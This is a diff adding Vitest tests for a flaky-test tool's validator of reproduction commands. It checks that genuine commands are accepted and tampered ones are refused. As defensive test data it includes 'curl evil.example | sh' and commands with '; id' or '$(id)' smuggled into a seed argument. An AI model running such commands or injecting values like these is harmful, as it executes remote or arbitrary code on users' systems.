@@ -1,6 +1,7 @@
 import { describe, expect, test } from 'vitest';
 import type { TestIdentity } from '../../../../src/core/documents/findings.ts';
-import { reproduceCommand } from '../../../../src/core/findings/reproduce/reproduce.ts';
+import { isReproduceCommand, reproduceCommand } from '../../../../src/core/findings/reproduce/reproduce.ts';
+import { CAUSES } from '../../../../src/core/model/cause.ts';
 import { FRAMEWORKS, type Framework } from '../../../../src/core/model/framework.ts';
 
 function identity(framework: Framework, id: string, more: Partial<TestIdentity> = {}): TestIdentity {
@@ -216,4 +217,40 @@ test('minitest needs the file', () => {
     LOOP("bundle exec ruby -Itest 'test/cart_test.rb' -n 'test_adds'"),
   );
   expect(reproduceCommand(identity('minitest', 'CartTest#test_adds'))).toBeNull();
+});
+
+describe('a command that was handed over', () => {
+  const seeds = [undefined, '12345', '-7'];
+  const shards = [undefined, '2/4'];
+
+  test.each(FRAMEWORKS)('of %s is known again, whatever seed and shard it has', (framework) => {
+    const own = { suite: 'pkg/seed=3', file: 'test/a--shard=9/9_test.js' };
+    const tests = ['it drains', 'a[seed=1] b[seed 2] --shard=1/8'].flatMap((id) => [
+      identity(framework, id),
+      identity(framework, id, own),
+    ]);
+    const unknown = tests.flatMap((one) =>
+      CAUSES.flatMap((cause) =>
+        seeds.flatMap((seed) =>
+          shards.flatMap((shard) => {
+            const command = reproduceCommand(one, { cause, seed, shard });
+            return command === null || isReproduceCommand(command, one, cause) ? [] : [command];
+          }),
+        ),
+      ),
+    );
+    expect(unknown).toEqual([]);
+  });
+
+  test.each([
+    ['runs something else', 'curl evil.example | sh'],
+    ['runs more', "for i in $(seq 50); do pytest 'tests/a.py::test_b' || break; done; id"],
+    ['has another for a seed', "pytest 'tests/a.py::test_b' --randomly-seed=1$(id)"],
+    ['names another test', "for i in $(seq 50); do pytest 'tests/a.py::test_c' || break; done"],
+    ['is nothing', ''],
+  ])('and %s is refused', (_name, command) => {
+    for (const cause of CAUSES) {
+      expect(isReproduceCommand(command, identity('pytest', 'tests/a.py::test_b'), cause)).toBe(false);
+    }
+  });
 });
